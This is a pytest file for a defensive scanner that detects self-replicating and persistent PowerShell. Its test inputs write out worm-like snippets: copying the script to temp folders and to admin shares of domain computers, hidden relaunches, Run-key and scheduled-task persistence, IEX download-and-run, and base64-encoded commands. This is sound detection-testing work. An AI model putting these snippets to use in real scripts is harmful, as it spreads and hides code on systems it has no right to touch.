"""The PowerShell self-replication pack: the kind, the statement reader, the provenance model,
encoded commands, and the bounds on hostile input."""
from __future__ import annotations

import base64
import time
from pathlib import Path

import pytest

from artefact_scan.detectors.powershell_syntax import Script
from artefact_scan.kinds import kind_of


def _stmts(text):
    s = Script(text)
    return [(s_.name, [a.value for a in s_.args], tuple(f.kind for f in s_.frames), s_.assign) for s_ in s.stmts]


def test_kind_by_extension_shebang_and_fence_language():
    assert kind_of("x.ps1", "") == "powershell"
    assert kind_of("Mod.PSM1", "") == "powershell"
    assert kind_of("Mod.psd1", "") == "powershell"
    assert kind_of("run", "#!/usr/bin/env pwsh\nWrite-Host hi\n") == "powershell"
    assert kind_of("run", "#!/usr/bin/pwsh -NoProfile\n") == "powershell"
    from artefact_scan.kinds import LANGUAGES

    assert LANGUAGES["powershell"] == LANGUAGES["pwsh"] == LANGUAGES["ps1"] == "powershell"


def test_comments_strings_and_statements():
    text = ("<# Copy-Item $PSCommandPath x #>\n"
            "Write-Host 'a # b' \"c $(Get-Date) d\" # Copy-Item\n"
            "$x = 'it''s'; Get-Item x | Select-Object Name\n")
    got = _stmts(text)
    assert ("write-host", ["Write-Host", "a # b", "c $(Get-Date) d"], (), "") in got
    assert ("get-date", ["Get-Date"], ("subexpr",), "") in got
    assert ("", ["it's"], (), "x") in got
    s = Script(text)
    assert "Copy-Item" not in s.code and len(s.code) == len(text)
    sel = next(x for x in s.stmts if x.name == "select-object")
    assert sel.pipe_prev is not None and sel.pipe_prev.name == "get-item"


def test_parameters_lists_splats_and_backtick_names():
    s = Script("Copy-Item -Path:$a -Dest $b -Force\nStart-Process pwsh -ArgumentList '-File', $me\n"
               "I`nv`oke-Ex`pression $c\nCopy-Item @p\n")
    cp = s.stmts[0]
    assert [(a.param, a.attached) for a in cp.args[1:]] == [("path", "$a"), ("dest", ""), ("", ""), ("force", "")]
    sp = s.stmts[1]
    assert len(sp.args[3].items) == 2 and sp.args[3].value == "-File $me"
    assert s.stmts[2].name == "invoke-expression"
    assert s.stmts[3].args[1].text == "@p"


def test_keywords_open_frames_with_headers():
    text = ("foreach ($h in (Get-ADComputer -Filter *).Name) { Copy-Item $me \"\\\\$h\\c$\" }\n"
            "while ($true) { Start-Process powershell }\n"
            "do { x } until ($false)\n"
            "for (;;) { y }\n"
            "function Spread { param($t) z }\n"
            "Get-ChildItem *.ps1 | ForEach-Object { Add-Content $_.FullName $me }\n"
            "if ($a) { p } elseif ($b) { q } else { r }\n"
            "try { t } catch [System.Exception] { u } finally { v }\n")
    s = Script(text)
    by = {st.name: st for st in s.stmts if st.args}
    fr = by["copy-item"].frames[-1]
    assert fr.kind == "foreach" and fr.var == "h" and "Get-ADComputer" in fr.header
    assert by["start-process"].frames[-1].infinite
    assert by["x"].frames[-1].kind == "do" and by["x"].frames[-1].infinite
    assert by["y"].frames[-1].kind == "for" and by["y"].frames[-1].infinite
    assert s.functions["spread"].kind == "func" and by["z"].frames[-1] is s.functions["spread"]
    each = by["add-content"].frames[-1]
    assert each.kind == "each" and "Get-ChildItem *.ps1" in each.header
    assert [by[n].frames[-1].kind for n in "pqr"] == ["if", "if", "if"]
    assert [by[n].frames[-1].kind for n in "tuv"] == ["try", "catch", "finally"]


def test_code_strings_are_read_as_statements():
    s = Script("iex 'Copy-Item $PSCommandPath C:\\x.ps1'\n"
               "powershell -NoP -c \"Start-Process notepad\"\n"
               "& ([scriptblock]::Create('Remove-Item x'))\n"
               "IEX (New-Object Net.WebClient).DownloadString('http://x/y')\n")
    kinds = {st.name: tuple(f.kind for f in st.frames) for st in s.stmts if st.args}
    assert kinds["copy-item"] == ("string",)
    assert kinds["start-process"] == ("string",)
    assert kinds["remove-item"][-1] == "string"
    assert "http://x/y" not in kinds  # a method's argument, not code


def test_here_strings_and_continuations():
    text = "$a = @'\nCopy-Item x y\n'@\n$b = @\"\nline $(Get-Date)\n\"@\nGet-Item `\n  -Path z\n"
    s = Script(text)
    names = [st.name for st in s.stmts if st.args]
    assert "copy-item" not in names and "get-date" in names
    gi = next(st for st in s.stmts if st.name == "get-item")
    assert [a.value for a in gi.args] == ["Get-Item", "-Path", "z"]


@pytest.mark.parametrize("text", [
    "$(" * 3000 + "x" + ")" * 3000,
    "{" * 5000,
    "'" * 5001,
    "@\"\n" + "$(\n" * 2000,
    "if ($a) { b } " + "elseif ($c) { d } " * 3000,
    "(" * 4000 + "\"" * 100,
    "[" * 10000,
    "a," * 20000,
])
def test_hostile_powershell_is_bounded(text):
    t0 = time.monotonic()
    Script(text)
    assert time.monotonic() - t0 < 5


# -- the provenance model -------------------------------------------------------------------------
from artefact_scan.detectors.powershell_model import PsModel, canonical, select_regions  # noqa: E402


def test_self_labels_and_path_arithmetic():
    m = PsModel("$me = $MyInvocation.MyCommand.Path\n"
                "$dir = Split-Path -Parent $PSCommandPath\n"
                "$name = Split-Path $PSCommandPath -Leaf\n"
                "$full = Join-Path $dir $name\n"
                "$cfg = Join-Path $PSScriptRoot 'config.json'\n"
                "$log = $PSCommandPath -replace '\\.ps1$', '.log'\n"
                "$src = Get-Content -Raw $me\n"
                "$b64 = [Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes($src))\n"
                "$own = \"$PSScriptRoot\\tool.ps1\"\n", own="tool.ps1")
    assert "self" in m.labels["me"] and "self" in m.labels["full"] and "self" in m.labels["own"]
    assert "selfdir" in m.labels["dir"] and "selfname" in m.labels["name"]
    assert not m.labels["cfg"] & {"self", "selfdir"}
    assert not m.labels["log"] & {"self", "selfdir"}
    assert "selfcontent" in m.labels["src"] and "selfcontent" in m.labels["b64"]
    assert m.is_self("(Resolve-Path $PSCommandPath).Path") and m.is_self('"$($MyInvocation.MyCommand.Definition)"')
    assert m.is_selfdir("$PSScriptRoot\\*") and not m.is_self("$PSScriptRoot\\other.ps1")


def test_hosts_and_code_files_follow_loops_and_pipelines():
    m = PsModel("$targets = Get-ADComputer -Filter * | Select-Object -Expand Name\n"
                "foreach ($t in $targets) { Write-Host $t }\n"
                "$files = Get-ChildItem C:\\ -Recurse -Include *.ps1,*.psm1\n"
                "1..254 | ForEach-Object { \"10.1.2.$_\" } | ForEach-Object { Test-Connection $_ }\n"
                "$names = Get-Content .\\servers.txt\n")
    assert "hosts" in m.labels["targets"] and "hosts" in m.labels["t"]
    assert "codefiles" in m.labels["files"]
    assert "hosts" not in m.labels.get("names", set())
    each = [st for st in m.stmts if st.cname == "test-connection"][0]
    assert "hosts" in m.item_labels(each.frames)


def test_parameters_bind_by_name_prefix_alias_position_and_splat():
    m = PsModel("Copy-Item -Dest $d -LiteralPath $s -Force\n"
                "cpi $s $d\n"
                "$p = @{ Path = $s; Destination = $d }\nCopy-Item @p\n"
                "Start-Process pwsh -Args '-File', $s -WindowStyle:Hidden\n")
    cps = [st for st in m.stmts if st.cname == "copy-item"]
    for st in cps:
        b = m.bind(st)
        assert (b.get("literalpath") or b["path"]).text == "$s" and b["destination"].text == "$d"
    sp = next(st for st in m.stmts if st.cname == "start-process")
    b = m.bind(sp)
    assert b["filepath"].value == "pwsh" and b["argumentlist"].value == "-File $s" and b["windowstyle"].value == "Hidden"
    assert canonical("Microsoft.PowerShell.Management\\Copy-Item") == "copy-item"
    assert canonical("C:\\Windows\\System32\\schtasks.exe") == "schtasks" and canonical("saps") == "start-process"


def test_large_texts_read_only_the_statements_that_matter():
    filler = "".join(f"function Get-Thing{i} {{ param($x) Write-Output ($x * {i}) }}\n" for i in range(4000))
    text = filler + "$d = Join-Path $env:TEMP '.x.ps1'\nCopy-Item $PSCommandPath $d\n" + filler
    regions, whole = select_regions(text)
    assert not whole
    picked = "".join(text[a:b] for a, b in regions)
    assert "Copy-Item $PSCommandPath $d" in picked and "$d = Join-Path" in picked
    assert len(picked) < len(text) / 50


# -- detection end to end ----------------------------------------------------------------------------
def _scan(tmp_path, name, text, **kw):
    from artefact_scan import load_rules
    from artefact_scan.scanner import Options, run

    p = tmp_path / name
    p.write_text(text, encoding="utf-8")
    res = run([str(tmp_path)], load_rules(), Options(jobs=1))
    return res


def test_encoded_command_is_decoded_and_scanned(tmp_path):
    inner = "Copy-Item $PSCommandPath \"$env:TEMP\\.u.ps1\"; Start-Process powershell -ArgumentList \"-File $env:TEMP\\.u.ps1\""
    b64 = base64.b64encode(inner.encode("utf-16-le")).decode()
    res = _scan(tmp_path, "run.cmd", f"@echo off\r\npowershell -NoP -W Hidden -Enc {b64}\r\n")
    rules = {f.rule_id for f in res.findings}
    assert {"SR609", "SR601"} <= rules
    sr609 = next(f for f in res.findings if f.rule_id == "SR609")
    assert sr609.decoded and "Copy-Item $PSCommandPath" in sr609.decoded


def test_a_large_generated_script_is_fast_and_bounded(tmp_path):
    block = ("function Get-Thing{n} {{\n    param([string]$Path = \"$PSScriptRoot\\data{n}.json\")\n"
             "    $items = Get-ChildItem -Path $Path -Filter *.log -Recurse | Where-Object {{ $_.Length -gt 1kb }}\n"
             "    foreach ($i in $items) {{ Copy-Item $i.FullName \"$env:TEMP\\errors{n}\\\" -Force }}\n"
             "    while ($true) {{ Start-Sleep -Milliseconds 10; if ($i) {{ break }} }}\n"
             "    Invoke-Command -ComputerName $cfg.Servers -ScriptBlock {{ Get-Service -Name 'W32Time' }}\n}}\n")
    parts, size, n = [], 0, 0
    while size < 5 * 1024 * 1024:
        b = block.format(n=n)
        parts.append(b)
        size += len(b)
        n += 1
    t0 = time.monotonic()
    res = _scan(tmp_path, "big.ps1", "".join(parts))
    elapsed = time.monotonic() - t0
    assert elapsed < 15, elapsed  # about 2 s on a laptop core; the bound leaves room for busy machines
    assert not [f for f in res.findings if f.rule_id.startswith("SR6")]


def test_windows_persistence_entries_link_to_the_script_they_start():
    import json

    from artefact_scan import load_rules
    from artefact_scan.reports.json_report import render
    from artefact_scan.scanner import Options, run

    from .conftest import FIXTURES

    root = FIXTURES / "rules" / "self-replication" / "powershell" / "linking"
    out = []
    for jobs in (1, 2):
        res = run([str(root)], load_rules(), Options(jobs=jobs))
        d = json.loads(render(res))
        d["summary"].pop("seconds")
        out.append(d)
    assert out[0] == out[1]
    chain = [f for f in out[0]["findings"] if f["rule_id"] == "SR490"]
    assert sorted(Path(f["path"]).name for f in chain) == ["AgentKeepalive", "autorun.reg", "install-agent.ps1"]
    assert all(Path(r["path"]).name == "keepalive.ps1" for f in chain for r in f["related"])
    raised = next(f for f in out[0]["findings"] if f["rule_id"] == "SR601")
    assert raised["severity"] == "error"


# -- properties on arbitrary PowerShell-ish input ----------------------------------------------------
from hypothesis import HealthCheck, given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

PS_PIECES = st.sampled_from([
    "$PSCommandPath", "$MyInvocation.MyCommand.Path", "$PSScriptRoot", "'", '"', "`", "$(", ")", "(", "{ ",
    " }", ";", " | ", "\n", "@'\n", "\n'@", '@"\n', '\n"@', "<#", "#>", "# ", "[IO.File]::Copy(", ", ",
    "Copy-Item ", "-Destination ", "$env:TEMP\\.x.ps1 ", "\\\\$h\\c$\\x.ps1 ", "Start-Process ", "powershell ",
    "-WindowStyle Hidden ", "-ArgumentList ", "-File ", "while ($true) ", "foreach ($h in ", "Get-ADComputer ",
    "function f ", "f | f", "schtasks /create /tr ", "New-ItemProperty ", "HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run ",
    "-Value ", "Invoke-Command -ComputerName ", "-ScriptBlock ", "IEX ", "(New-Object Net.WebClient).DownloadString(",
    "-EncodedCommand SQBFAFgA", "[Convert]::FromBase64String(", "Register-EngineEvent PowerShell.Exiting -Action ",
    "@p", "$p = @{ ", "Get-Content ", "-Raw ", "Add-Content ", "Get-ChildItem -Filter *.ps1 ", "% { ", "$_",
])
PS_TEXT = st.lists(st.one_of(PS_PIECES, st.text(max_size=8)), max_size=40).map("".join)
PS_NAMES = st.sampled_from(["a.ps1", "m.psm1", "Microsoft.PowerShell_profile.ps1", "n.md", "r.reg", "t.bat"])


@settings(max_examples=40, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(text=PS_TEXT, name=PS_NAMES)
def test_powershell_detectors_never_fail_and_locate_inside_the_file(tmp_path_factory, text, name):
    d = tmp_path_factory.mktemp("ps")
    if name == "n.md":
        text = "```powershell\n" + text + "\n```\n"
    (d / name).write_text(text, encoding="utf-8", errors="surrogatepass")
    from artefact_scan import load_rules
    from artefact_scan.scanner import Options, run

    res = run([str(d)], load_rules(), Options(jobs=1))
    bad = [e.message for e in res.errors if "failed" in e.message or "internal error" in e.message]
    assert not bad, bad
    written = (d / name).read_text(encoding="utf-8", errors="surrogatepass")
    lines = written.split("\n")
    for f in res.findings:
        assert 1 <= f.location.line <= len(lines)
        assert 1 <= f.location.column <= len(lines[f.location.line - 1]) + 1


@pytest.mark.parametrize("text", [
    "Copy-Item " * 20000,
    "$a = $b\n" * 30000 + "Copy-Item $a $env:TEMP\\.x",
    "function f { " * 3000,
    "Start-Process powershell -ArgumentList \"" + "-c " * 5000,
    "iex '" + "iex '" * 3000,
    "@'\n" * 5000,
])
def test_hostile_powershell_detector_is_bounded(text):
    from artefact_scan.context import Context, Limits
    from artefact_scan.detectors import load_all
    from artefact_scan.model import Artefact

    dets = load_all()
    art = Artefact("f.ps1", "f.ps1", "powershell", text)
    t0 = time.monotonic()
    for name in ("powershell-behaviour", "powershell-encoded"):
        dets[name].fn(art, Context("f.ps1", Limits()))
    assert time.monotonic() - t0 < 5


def test_remote_runs_are_errors_only_when_left_running_there(tmp_path):
    fg = "foreach ($s in $Servers) { Invoke-Command -ComputerName $s -FilePath $PSCommandPath }\n"
    bg = ("foreach ($s in $Servers) { Copy-Item $PSCommandPath \"\\\\$s\\C$\\ProgramData\\a.ps1\"\n"
          "  Invoke-WmiMethod -ComputerName $s -Class Win32_Process -Name Create -ArgumentList 'powershell -File C:\\ProgramData\\a.ps1' }\n")
    sev = {}
    for name, text in (("fg.ps1", fg), ("bg.ps1", bg)):
        d = tmp_path / name[:2]
        d.mkdir()
        res = _scan(d, name, text)
        sev[name] = {f.rule_id: f.severity for f in res.findings}
    assert sev["fg.ps1"] == {"SR604": "warning"}
    assert sev["bg.ps1"] == {"SR604": "error"}


def test_thousands_of_the_same_behaviour_in_one_file_stay_linear(tmp_path):
    """A file-scoped rule with thousands of anchors is judged once per file, not once per anchor."""
    lines = "".join(f'Copy-Item $PSCommandPath "$env:TEMP\\.x{n}.ps1"; Start-Process powershell -ArgumentList "-File $env:TEMP\\.x{n}.ps1"\n'
                    for n in range(20000))
    t0 = time.monotonic()
    res = _scan(tmp_path, "dense.ps1", lines)
    assert time.monotonic() - t0 < 15
    sr601 = [f for f in res.findings if f.rule_id == "SR601"]
    assert len(sr601) == 1 and sr601[0].severity == "error"


def test_every_powershell_rule_reports_its_documented_example(tmp_path):
    from artefact_scan import load_rules
    from artefact_scan.scanner import Options, run

    rs = load_rules()
    ids = sorted(r for r in rs.rules if r.startswith("SR6"))
    assert ids
    for rid in ids:
        d = tmp_path / rid
        d.mkdir()
        (d / "example.ps1").write_text(rs.rules[rid].docs["example"], encoding="utf-8")
        res = run([str(d)], rs, Options(jobs=1))
        assert rid in {f.rule_id for f in res.findings}, rid


def test_an_encoded_command_in_documentation_is_a_note():
    from artefact_scan import load_rules
    from artefact_scan.scanner import Options, run

    from .conftest import FIXTURES

    root = FIXTURES / "rules" / "self-replication" / "powershell" / "docs"
    res = run([str(root)], load_rules(), Options(jobs=1))
    assert [(f.rule_id, f.severity) for f in res.findings] == [("SR609", "note")]
